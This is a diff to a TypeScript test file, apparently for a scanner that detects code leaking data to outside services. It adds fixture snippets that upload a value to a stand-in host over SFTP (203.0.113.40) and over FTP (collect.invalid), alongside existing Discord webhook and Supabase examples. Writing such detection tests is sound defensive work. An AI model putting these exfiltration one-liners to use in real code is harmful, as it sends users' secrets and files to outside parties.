@@ -15,6 +15,10 @@ const GIVEN_AWAY: Readonly<Record<string, string>> = {
   [`const { WebhookClient } = require('discord.js'); new WebhookClient({ id: '1' }).send(s);`]: 'discord.com',
   [`const { createClient } = require('@supabase/supabase-js'); createClient('https://collect.invalid', 'k').from('x').insert({ s });`]:
     'collect.invalid',
+  [`const C = require('ssh2-sftp-client'), c = new C(); c.connect({ host: '203.0.113.40', username: 'd' }).then(() => c.put(Buffer.from(s), '/in/1'));`]:
+    '203.0.113.40',
+  [`(async () => { const { Client } = require('basic-ftp'), c = new Client(); await c.access({ host: 'collect.invalid' }); await c.uploadFrom(rc, 'a'); })();`]:
+    'collect.invalid',
 };
 
 describe('clients of services', () => {
